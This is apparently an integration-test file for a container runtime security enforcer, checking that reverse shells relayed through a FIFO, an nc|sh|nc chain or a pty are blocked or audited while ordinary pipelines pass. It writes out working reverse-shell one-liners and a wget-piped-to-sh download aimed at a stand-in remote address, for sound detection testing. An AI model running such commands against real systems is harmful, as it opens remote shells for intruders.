using MicroEnforcer.IntegrationTests.Harness;
using Xunit;
using Xunit.Abstractions;

namespace MicroEnforcer.IntegrationTests.Controls;

/// <summary>
/// Reverse shells whose stdio is a pipe, a fifo or a pty, with the socket held by a relay process:
/// the forms Falco's stable rules miss too. The listeners are at 10.99.0.1, an address the
/// container's loopback device gets (a peer that is not a loopback address, as a remote host
/// is: loopback peers are exempt from the relay rule). A listener sends one command whose output
/// proves a live shell: `echo SHELL-ALIVE-$((6*7))` answers SHELL-ALIVE-42.
/// </summary>
public sealed class ReverseShellRelayTests(ITestOutputHelper output)
{
    // Waits 4 s with a builtin on a FIFO nobody writes, not by forking sleep: the attack and the
    // listener end together, and a SIGCHLD landing while the shell enters a notified fork fails
    // that fork with EINTR, which ends a non-interactive busybox sh (docs/limits.md, "Signals
    // and notified calls"). What these tests check happens before; the wait must not be at risk.
    private const string WaitWithoutForking = "exec 9<>/tmp/.wait; read -t 4 x <&9; ";

    // The FIFO the wait reads, made first, while nothing can end.
    private const string MakeWaitFifo = "mkfifo /tmp/.wait; ";

    private const string Alive = "SHELL-ALIVE-42";
    private const string Remote = "10.99.0.1";
    private const string AddRemote = "ip addr add 10.99.0.1/32 dev lo; ";

    // One listener that sends the command and keeps what comes back; the attack; what it got.
    private static string WithListener(string attack) =>
        AddRemote +
        MakeWaitFifo + "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /tmp/received 2>/dev/null & " +
        $"sleep 0.5; {attack}; echo \"rc=$?\"; " + WaitWithoutForking + "echo received:; cat /tmp/received";

    // Two listeners: commands from 4444, output to 4445 (nc | sh | nc).
    private static string WithTwoListeners(string attack) =>
        AddRemote +
        MakeWaitFifo + "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /dev/null 2>&1 & " +
        "sleep 30 | nc -l -p 4445 > /tmp/received 2>/dev/null & " +
        $"sleep 0.5; {attack}; echo \"rc=$?\"; " + WaitWithoutForking + "echo received:; cat /tmp/received";

    private const string FifoRelay = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | timeout 4 nc 10.99.0.1 4444 > /tmp/f";
    private const string NcSandwich = "timeout 4 nc 10.99.0.1 4444 | /bin/sh | timeout 4 nc 10.99.0.1 4445";

    public static TheoryData<string, string> Attacks => new()
    {
        { "fifo", WithListener(FifoRelay) },
        { "nc | sh | nc", WithTwoListeners(NcSandwich) },
        { "pty, connected first", WithListener("timeout 4 /opt/tests/pty_relay connect-first 10.99.0.1 4444") },
        { "pty, connected after the shell started", WithListener("timeout 4 /opt/tests/pty_relay spawn-first 10.99.0.1 4444") },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void WithoutTheEnforcerEachFormGetsAShell(string form, string script)
    {
        var r = Container.RunRaw(["/bin/sh", "-c", script]);
        output.WriteLine(r.ToString());

        Assert.True(r.Stdout.Contains(Alive, StringComparison.Ordinal), $"{form}: no shell without the enforcer\n{r}");
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void EachFormIsBlocked(string form, string script)
    {
        var r = Container.Run(["/bin/sh", "-c", script], timeout: TimeSpan.FromMinutes(1));
        output.WriteLine(r.ToString());

        Assert.False(r.Stdout.Contains(Alive, StringComparison.Ordinal), $"{form}: the shell answered\n{r}");
        var events = r.AuditEvents.Where(e => e.GetProperty("control").GetString() == "reverseShell").ToList();
        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.Contains(e.GetProperty("action").GetString(), new[] { "blocked", "killed" }));
        Assert.Contains(events, e => e.TryGetProperty("remote", out var remote) && remote.GetString()!.StartsWith(Remote + ":", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void InAuditModeEachFormIsReported(string form, string script)
    {
        const string audit = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { mode: audit }
            """;
        var r = Container.Run(["/bin/sh", "-c", script], audit, timeout: TimeSpan.FromMinutes(1));
        output.WriteLine(r.ToString());

        Assert.True(r.Stdout.Contains(Alive, StringComparison.Ordinal), $"{form}: audit mode must not block\n{r}");
        Assert.NotEmpty(r.Events("reverseShell", "detected"));
    }

    [Fact]
    public void AllowedProcessesExemptAKnownRelay()
    {
        const string policy = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { allowedProcesses: ["/opt/tests/pty_relay", "/bin/busybox"] }
            """;
        var r = Container.Run(["/bin/sh", "-c", WithListener("timeout 4 /opt/tests/pty_relay connect-first 10.99.0.1 4444")], policy);
        output.WriteLine(r.ToString());

        Assert.Contains(Alive, r.Stdout);
        Assert.Empty(r.Events("reverseShell", "blocked"));
        Assert.Empty(r.Events("reverseShell", "killed"));
    }

    [Fact]
    public void OrdinaryPipelinesAndServersAreNotAffected()
    {
        // ps | grep; sh -c with a pipeline; a CGI server holding client connections that runs a
        // shell script with pipes per request (busybox httpd); a worker connected outward that
        // runs sh -c with pipes for each line it receives; a download to a file; a shell reading
        // a script file while a connected client feeds its pipeline.
        const string script = AddRemote +
            "mkdir -p /tmp/www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\necho cgi-$(echo ok | cat)\\n' > /tmp/www/cgi-bin/x && " +
            "chmod +x /tmp/www/cgi-bin/x && echo page-content > /tmp/www/index.html && httpd -p 10.99.0.1:8080 -h /tmp/www && " +
            "ps | grep -c ps > /dev/null && echo ps-grep-ok; " +
            "sh -c 'echo b; echo a' | sort | tr '\\n' ' '; echo; " +
            "wget -q -O /tmp/page http://10.99.0.1:8080/index.html && cat /tmp/page; " +
            "(printf 'echo job-one\\necho job-two\\n'; sleep 1) | nc -l -p 4446 >/dev/null 2>&1 & sleep 0.3; " +
            "timeout 3 nc 10.99.0.1 4446 | while read line; do sh -c \"$line\" | cat; done; " +
            "echo 'echo from-a-script-file' > /tmp/s.sh; wget -q -O - http://10.99.0.1:8080/index.html | sh /tmp/s.sh; " +
            "echo finished";
        var r = Container.Run(["/bin/sh", "-c", script], AllowTmp, timeout: TimeSpan.FromMinutes(1));
        output.WriteLine(r.ToString());

        Assert.Contains("ps-grep-ok", r.Stdout);
        Assert.Contains("a b", r.Stdout);
        Assert.Contains("page-content", r.Stdout);
        Assert.Contains("job-one", r.Stdout);
        Assert.Contains("job-two", r.Stdout);
        Assert.Contains("from-a-script-file", r.Stdout);
        Assert.Contains("finished", r.Stdout);
        Assert.Empty(r.Events("reverseShell", "blocked"));
        Assert.Empty(r.Events("reverseShell", "killed"));
        Assert.Empty(r.Events("reverseShell", "detected"));
    }

    // The CGI script is written at run time (drift): the policy lets /tmp/www run.
    private const string AllowTmp = """
        apiVersion: microenforcer.dev/v1
        kind: RuntimePolicy
        spec:
          driftPrevention: { allowedExecutables: ["/tmp/www/**"] }
        """;

    [Fact]
    public void DownloadPipedIntoAShellIsTakenForAReverseShell()
    {
        // `wget -O- URL | sh` from a remote host reads commands from the network: it matches the
        // rule, by design (docs/controls.md, Reverse shells: allowedProcesses exempts a known case).
        const string script = AddRemote +
            "mkdir -p /tmp/www && echo 'echo SHELL-ALIVE-$((6*7))' > /tmp/www/install.sh && httpd -p 10.99.0.1:8080 -h /tmp/www && " +
            "wget -q -O - http://10.99.0.1:8080/install.sh | sh; echo \"rc=$?\"";
        var r = Container.Run(["/bin/sh", "-c", script]);
        output.WriteLine(r.ToString());

        Assert.DoesNotContain(Alive, r.Stdout);
        Assert.Contains(r.AuditEvents, e => e.GetProperty("control").GetString() == "reverseShell");
    }
}
